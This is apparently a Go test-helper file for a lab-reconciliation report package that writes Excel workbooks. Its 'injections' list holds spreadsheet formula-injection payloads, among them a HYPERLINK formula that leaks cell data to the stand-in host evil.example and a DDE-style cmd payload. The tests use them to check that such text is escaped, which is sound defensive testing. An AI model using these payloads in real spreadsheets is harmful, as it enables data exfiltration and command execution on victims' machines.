package report_test

import (
	"archive/zip"
	"errors"
	"fmt"
	"io"
	"iter"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/flabsync/flabsync/mapping"
	"github.com/flabsync/flabsync/reconcile"
	"github.com/flabsync/flabsync/reconcile/report"
)

// injections are partner texts that would run as formulas if written as
// formulas; each must come back as the same text.
var injections = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1,2)`,
	"\t=1+1",
	`=1+1`,
}

var (
	ist   = time.FixedZone("IST", 5*3600+1800)
	runAt = time.Date(2026, 11, 25, 2, 0, 0, 0, ist)
)

// exceptionsOf yields es in order.
func exceptionsOf(es []reconcile.Exception) iter.Seq2[reconcile.Exception, error] {
	return func(yield func(reconcile.Exception, error) bool) {
		for _, e := range es {
			if !yield(e, nil) {
				return
			}
		}
	}
}

// sampleExceptions has every category, sorted by category, with new, open
// and resolved ones and a formula in partner text.
func sampleExceptions() []reconcile.Exception {
	cats := reconcile.Categories // the Summary's order, as rules streams them
	partners := []string{"sunrise", "metro", ""}
	var es []reconcile.Exception
	n := 0
	for ci, cat := range cats {
		for j := 0; j < ci%3+1; j++ {
			n++
			status := []reconcile.Status{reconcile.StatusNew, reconcile.StatusOpen, reconcile.StatusOpen, reconcile.StatusResolved}[n%4]
			first := runAt.Add(-time.Duration(n) * 7 * time.Hour)
			e := reconcile.Exception{
				ID:              fmt.Sprintf("EX-%04d", n),
				Category:        cat,
				Status:          status,
				Partner:         partners[(ci+j)%3],
				IntegratorID:    fmt.Sprintf("sunrise-%06d", n),
				File:            "sunrise_2026-11-24.csv",
				Row:             n + 1,
				AgeBucket:       reconcile.AgeBuckets[n%4],
				FirstSeen:       first,
				LastSeen:        runAt,
				Detail:          "detail " + strconv.Itoa(n),
				SuggestedAction: "check the booking",
			}
			if j == 0 {
				e.Detail = injections[ci%len(injections)]
				e.File = injections[(ci+1)%len(injections)]
			}
			if cat == reconcile.CategoryMissingDrop {
				e.Row, e.IntegratorID, e.File = 0, "", ""
				if j == 0 {
					e.Status = reconcile.StatusNew // one still open, however the statuses fall
				}
			}
			es = append(es, e)
		}
	}
	return es
}

// countsOf is what package reconcile would hand over as Data.Counts.
func countsOf(es []reconcile.Exception) (counts map[reconcile.Category]map[string]int, newN, openN int) {
	counts = map[reconcile.Category]map[string]int{}
	for _, e := range es {
		if !e.Open() {
			continue
		}
		if counts[e.Category] == nil {
			counts[e.Category] = map[string]int{}
		}
		counts[e.Category][e.Partner]++
		if e.Status == reconcile.StatusNew {
			newN++
		} else {
			openN++
		}
	}
	return counts, newN, openN
}

func sampleData() *report.Data {
	es := sampleExceptions()
	counts, newN, openN := countsOf(es)
	return &report.Data{
		At:         runAt,
		Location:   ist,
		Counts:     counts,
		New:        newN,
		Open:       openN,
		Resolved:   4,
		Exceptions: exceptionsOf(es),
		Files: []report.FileCheck{
			{FileID: 1, Name: "sunrise_2026-11-24.csv", Partner: "sunrise", Status: "done", ReceivedAt: runAt.Add(-20 * time.Hour),
				RowsIn: 10, Submitted: 7, Rejected: 2, Duplicate: 1, Balanced: true},
			{FileID: 2, Name: "=evil.xlsx", Partner: "metro", Status: "done", ReceivedAt: runAt.Add(-10 * time.Hour),
				RowsIn: 5, Submitted: 3, Rejected: 1, Balanced: false},
		},
		Unmapped: []mapping.ReviewRow{
			{Line: mapping.Line{Partner: "sunrise", Kind: "test", LocalName: "Trop T"}, Count: 3,
				Suggestions: []mapping.Suggestion{{Target: "64f00000000000000000003e", Name: "Troponin I", Score: 0.19, Reason: "CAUTION differs in I, T"}}},
			{Line: mapping.Line{Partner: "metro", Kind: "test", LocalName: "=1+2"}, Count: 1},
		},
		Rejects: []reconcile.RejectFile{
			{Partner: "sunrise", File: "sunrise_2026-11-24.csv", Header: []string{"Patient Name", "Age", "Tests"},
				Rows: []reconcile.RejectRow{{Row: 4, Cells: []string{"=HYPERLINK(\"x\")", "", "CBC"}, Reason: "missing_age: age is empty"}}},
		},
	}
}

// writeSample writes sampleData's workbook to a temp dir.
func writeSample(t testing.TB) (string, *report.Data, report.WorkbookInfo) {
	t.Helper()
	d := sampleData()
	path := filepath.Join(t.TempDir(), "exceptions_2026-11-25.xlsx")
	info, err := report.WriteWorkbook(path, d)
	if err != nil {
		t.Fatal(err)
	}
	return path, d, info
}

// openWorkbook opens a written workbook back, closing it at cleanup.
func openWorkbook(t testing.TB, path string, opts ...excelize.Options) *excelize.File {
	t.Helper()
	f, err := excelize.OpenFile(path, opts...)
	if err != nil {
		t.Fatalf("open %s: %v", path, err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// rowsOf reads a whole sheet.
func rowsOf(t testing.TB, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatalf("sheet %q: %v", sheet, err)
	}
	return rows
}

// zipText returns every XML part of an XLSX file, by name.
func zipText(t testing.TB, path string) map[string]string {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	out := map[string]string{}
	for _, f := range zr.File {
		if !strings.HasSuffix(f.Name, ".xml") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(b)
	}
	return out
}

// summary is what the Summary sheet says, read back.
type summary struct {
	New, Open, Resolved int
	ByCategory          map[reconcile.Category][2]int // category → {total, new}
	ByPartner           map[string]int
	Total               int
	Unbalanced, Refused []string
	Balanced            int
	Unmapped, Rejected  int
}

func readSummary(t testing.TB, f *excelize.File) summary {
	t.Helper()
	rows := rowsOf(t, f, report.SummarySheet)
	s := summary{ByCategory: map[reconcile.Category][2]int{}, ByPartner: map[string]int{}}
	atoi := func(v string) int {
		n, err := strconv.Atoi(v)
		if err != nil {
			t.Fatalf("summary: %q is not a number", v)
		}
		return n
	}
	var partnerHead []string
	section := ""
	for _, r := range rows {
		if len(r) == 0 {
			section = ""
			continue
		}
		switch {
		case r[0] == report.LabelNew:
			s.New = atoi(r[1])
		case r[0] == report.LabelOpen:
			s.Open = atoi(r[1])
		case r[0] == report.LabelResolved:
			s.Resolved = atoi(r[1])
		case r[0] == report.LabelUnmapped:
			s.Unmapped = atoi(r[1])
		case r[0] == report.LabelRejected:
			s.Rejected = atoi(r[1])
		case r[0] == "Category":
			section, partnerHead = "categories", r
		case r[0] == "File":
			section = "files"
		case section == "categories" && r[0] == report.LabelTotal:
			ti := slices.Index(partnerHead, report.LabelTotal)
			s.Total = atoi(r[ti])
			for i := 2; i < ti; i++ {
				s.ByPartner[partnerHead[i]] = atoi(r[i])
			}
		case section == "categories":
			ti := slices.Index(partnerHead, report.LabelTotal)
			s.ByCategory[reconcile.Category(r[1])] = [2]int{atoi(r[ti]), atoi(r[ti+1])}
		case section == "files" && r[0] == report.NoFiles:
		case section == "files":
			switch r[len(r)-1] {
			case report.Balanced:
				s.Balanced++
			case report.NotBalanced:
				s.Unbalanced = append(s.Unbalanced, r[0])
			case report.Refused:
				s.Refused = append(s.Refused, r[0])
			default:
				t.Fatalf("file row without a check: %q", r)
			}
		}
	}
	return s
}

func writeFile(t testing.TB, path string, b []byte) {
	t.Helper()
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

var errBoom = errors.New("boom")

// col is the letter of a category sheet's column, by its header.
func col(name string) string {
	i := slices.Index(report.ExceptionColumns, name)
	if i < 0 {
		panic("no column " + name)
	}
	c, _ := excelize.ColumnNumberToName(i + 1)
	return c
}
